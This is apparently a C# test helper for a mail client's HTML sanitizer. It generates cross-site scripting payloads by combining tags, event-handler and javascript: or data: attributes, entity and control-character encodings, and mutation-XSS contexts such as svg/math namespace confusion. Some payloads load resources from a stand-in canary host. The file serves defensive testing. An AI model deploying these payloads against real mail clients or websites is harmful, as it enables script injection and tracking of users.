namespace Kith.Mail.Tests.Html;

/// <summary>Attacks, put together from a tag, an attribute, a way of writing it and a place to hide it in. Each tries to run a script or to call home.</summary>
static class HostileHtml
{
    public const string Canary = "self.kithCanary=1";
    public const string CanaryHost = "canary.example";

    static readonly string[] tags =
    [
        "script", "img", "svg", "a", "iframe", "form", "style", "math", "object", "embed", "base", "meta", "link", "input", "button", "video", "audio", "body",
        "div", "table", "template", "noscript", "textarea", "select", "details", "marquee", "p", "xmp", "title", "frameset", "image", "isindex", "applet", "area",
        "source", "track", "keygen", "font", "td", "x-own", "animate", "foreignObject", "annotation-xml", "mglyph", "plaintext", "portal", "blockquote", "bgsound",
    ];

    static readonly (string Name, string Value)[] attributes =
    [
        ("onerror", Canary), ("onload", Canary), ("onclick", Canary), ("ontoggle", Canary), ("onfocus", Canary + "\" autofocus=\""), ("onpageshow", Canary),
        ("href", "javascript:" + Canary), ("src", "javascript:" + Canary), ("src", $"data:text/html,<script>{Canary}</script>"), ("xlink:href", "javascript:" + Canary),
        ("srcdoc", $"<script>{Canary}</script>"), ("src", $"https://{CanaryHost}/a.js"), ("href", $"https://{CanaryHost}/a.css\" rel=\"stylesheet"),
        ("style", $"background:url(https://{CanaryHost}/b.png)"), ("style", "position:fixed;top:0;left:0;width:99999px;height:99999px;z-index:9"),
        ("style", $"width:expression({Canary})"), ("style", $"list-style-image:u\\72l(//{CanaryHost}/l)"), ("style", $"background-image:image-set('//{CanaryHost}/s' 1x)"),
        ("background", $"https://{CanaryHost}/bg.png"), ("poster", $"https://{CanaryHost}/p.png"), ("srcset", $"https://{CanaryHost}/s.png 2x"),
        ("id", "timeline"), ("class", "modal open"), ("name", "cookie"), ("data-content", $"<img src=x onerror={Canary}>"), ("aria-labelledby", "x"),
        ("action", $"https://{CanaryHost}/form"), ("formaction", "javascript:" + Canary), ("http-equiv", $"refresh\" content=\"0;url=https://{CanaryHost}/m"),
        ("data", $"https://{CanaryHost}/o.swf"), ("ping", $"https://{CanaryHost}/ping"), ("values", "javascript:" + Canary + "\" attributeName=\"href"),
        ("src", $"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{Canary}'/>"), ("href", "vbscript:" + Canary), ("colspan", "65534"),
        ("contenteditable", "true"), ("tabindex", "1\" onfocusin=\"" + Canary), ("slot", "x"), ("is", "x-own"), ("lowsrc", $"//{CanaryHost}/low.gif"),
    ];

    static readonly Func<string, string, string>[] writings =
    [
        (name, value) => $"{name}=\"{value}\"",
        (name, value) => $"{name.ToUpperInvariant()}=\"{value}\"",
        (name, value) => $"{name}='{value.Replace("\"", "'", StringComparison.Ordinal)}'",
        (name, value) => $"{name}={value.Replace(' ', '/')}",
        (name, value) => $"/{name} = \"{Decimal(value)}\"",
        (name, value) => $"{name}=\"{Hexadecimal(value)}\"",
        (name, value) => $"\f{name}=\"{Scattered(value, "&Tab;")}\"",
        (name, value) => $"{name}=\"{Scattered(value, "\u0001")}\"",
        (name, value) => $"{name}=`{value}`",
        (name, value) => $"x=\"\0\" {name}=\"\u0001 {value}\"",
        (name, value) => $"title=\"</title><img {name}=&quot;{value}&quot;>\" {name}=\"{value}\"",
        (name, value) => $"{name}=\"{Scattered(value, "&NewLine;")}\"",
    ];

    static readonly Func<string, string>[] places =
    [
        attack => attack,
        attack => $"<svg>{attack}</svg>",
        attack => $"<math><mtext><table><mglyph><style><!--</style>{attack}",
        attack => $"<svg></p><style><a id=\"</style>{attack}\">",
        attack => $"<noscript><p title=\"</noscript>{attack}\">",
        attack => $"<!--><{"scr"}<script>ipt>{attack}</scr</script>ipt>-->",
        attack => $"<textarea><p title=\"</textarea>{attack}\">",
        attack => $"<table><tr><td>cell</td>{attack}<caption>{attack}</table>",
        attack => $"<select><option>{attack}</select>{attack}",
        attack => $"<title><p title=\"</title>{attack}\">",
        attack => $"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{attack}\">",
        attack => attack.TrimEnd('>'),
        attack => $"<{attack}",
        attack => $"<xmp><p title=\"</xmp>{attack}\">",
        attack => $"<b><a><p>{attack}</a></b><i>{attack}",
        attack => $"<template>{attack}</template><p><button><p>{attack}",
        attack => $"<!--[if mso]>{attack}<![endif]--><![CDATA[{attack}]]><?xml {attack}?>",
        attack => $"<iframe><p title=\"</iframe>{attack}\">",
        attack => $"<math><annotation-xml encoding=\"text/html\">{attack}</annotation-xml></math>",
        attack => $"<svg><foreignObject>{attack}</foreignObject><desc>{attack}</desc></svg>",
    ];

    /// <summary>So many of all combinations, spread evenly; the same ones each time.</summary>
    public static IEnumerable<string> Payloads(int count)
    {
        var all = tags.Length * attributes.Length * writings.Length * places.Length;
        var step = all / count | 1;
        while (all % step == 0 && step > 1) step += 2;
        for (var at = 0; at < count; at++) yield return Payload((int)((long)at * step % all));
    }

    static string Payload(int number)
    {
        (var tag, number) = (tags[number % tags.Length], number / tags.Length);
        (var attribute, number) = (attributes[number % attributes.Length], number / attributes.Length);
        (var write, number) = (writings[number % writings.Length], number / writings.Length);
        var body = tag is "script" ? Canary : tag is "style" ? $"@import '//{CanaryHost}/i.css';" : "text";
        return places[number % places.Length]($"<{tag} {write(attribute.Name, attribute.Value)}>{body}</{tag}>");
    }

    static string Decimal(string value) => string.Concat(value.Select(letter => char.IsLetter(letter) ? $"&#{(int)letter};" : letter.ToString()));

    static string Hexadecimal(string value) => string.Concat(value.Select(letter => char.IsLetter(letter) ? $"&#x{(int)letter:x6}" : letter.ToString()));

    static string Scattered(string value, string between) => value.Length < 6 ? value : value[..4] + between + value[4..];
}
